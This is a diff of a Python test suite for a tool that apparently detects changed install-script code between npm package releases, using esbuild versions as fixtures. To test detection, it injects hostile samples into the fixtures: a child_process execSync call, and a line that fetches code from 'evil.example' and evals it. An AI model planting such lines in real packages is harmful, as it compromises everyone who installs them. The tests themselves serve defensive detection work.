@@ -22,6 +22,7 @@ REAL_PAIRS = [
     ("semver-7.6.2", "semver-7.6.3"),
     ("left-pad-1.2.0", "left-pad-1.3.0"),
     ("chalk-5.3.0", "chalk-5.4.0"),
+    ("esbuild-0.20.1", "esbuild-0.20.2"),
 ]
 
 
@@ -98,20 +99,21 @@ def test_real_release_pairs_pass_untouched(old: str, new: str) -> None:
     assert any(c.field == "version" for c in result.fields)
 
 
-def test_esbuild_install_runs_its_changed_bin(differ: Differ) -> None:
-    """esbuild's postinstall ends with `validateBinaryVersion(process.execPath, toPath)` (toPath =
-    path.join(__dirname, 'bin', 'esbuild')), which runs `execFileSync(command.shift(), command)`: read through the
-    function's call sites, install.js runs bin/esbuild, and 0.20.2 changed it (its version string). bin/esbuild in
-    turn runs `execFileSync("node", [binPath].concat(...))` with a computed script, so the closure fails closed and
-    lib/main.js (changed) counts too. The regex closure saw neither call and passed the pair."""
+def test_install_code_that_only_embeds_the_new_version_is_not_a_code_change(differ: Differ) -> None:
+    """esbuild's postinstall runs bin/esbuild (`validateBinaryVersion(process.execPath, toPath)` ->
+    `execFileSync(command.shift(), command)`), and bin/esbuild runs lib/main.js through a computed script, so both
+    are install code. 0.20.1 -> 0.20.2 changed them only by the version string they embed: the same code, no
+    finding (else every esbuild release blocks). One more changed byte, and it is a code change again."""
+    from tests._support.tarballs import members
+
     result = diff_packages(load(fixture("esbuild-0.20.1")), load(fixture("esbuild-0.20.2")), Policy())
-    found = {f.file: f for f in result.findings}
-    assert {f.rule for f in result.findings} == {"install-script-code-changed"} and set(found) == {
-        "bin/esbuild",
-        "lib/main.js",
-    }, result.findings
-    assert "execFileSync(command.shift()" in found["bin/esbuild"].message
-    assert "bin/esbuild line 219" in found["lib/main.js"].message
+    assert not result.findings, result.findings
+    original = members(fixture("esbuild-0.20.2"))["bin/esbuild"][0]
+    poisoned = original.replace(b'"0.20.2"', b'"0.20.2" + require("child_process").execSync("id")', 1)
+    assert poisoned != original
+    result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"bin/esbuild": poisoned})
+    (f,) = only(result, "install-script-code-changed")
+    assert f.file == "bin/esbuild" and "execFileSync(command.shift()" in f.message
 
 
 def test_delta_lists_files_with_sizes_and_fields(differ: Differ) -> None:
@@ -169,7 +171,6 @@ def test_prepare_added_only_warns(differ: Differ) -> None:
 
 def test_install_script_changed_and_removed(differ: Differ) -> None:
     changed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=add_script("postinstall", "node install.js --x"))
-    changed.findings[:] = [g for g in changed.findings if g.rule != "install-script-code-changed"]  # see test_esbuild_
     (f,) = only(changed, "lifecycle-script-changed")
     assert '"node install.js" -> "node install.js --x"' in f.message and f.blocks
     removed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=lambda d: d.pop("scripts"))
@@ -216,8 +217,8 @@ def test_first_changed_line_is_reported(differ: Differ) -> None:
     lines = original.split(b"\n")
     lines[40] = b"fetch('https://evil.example/x').then(eval);"
     result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": b"\n".join(lines)})
-    found = {g.file: g for g in only(result, "install-script-code-changed")}
-    assert found["install.js"].line == 41 and set(found) == {"install.js", "bin/esbuild", "lib/main.js"}
+    (f,) = only(result, "install-script-code-changed")
+    assert f.file == "install.js" and f.line == 41
 
 
 def test_transitive_requires_of_the_install_script(differ: Differ) -> None:
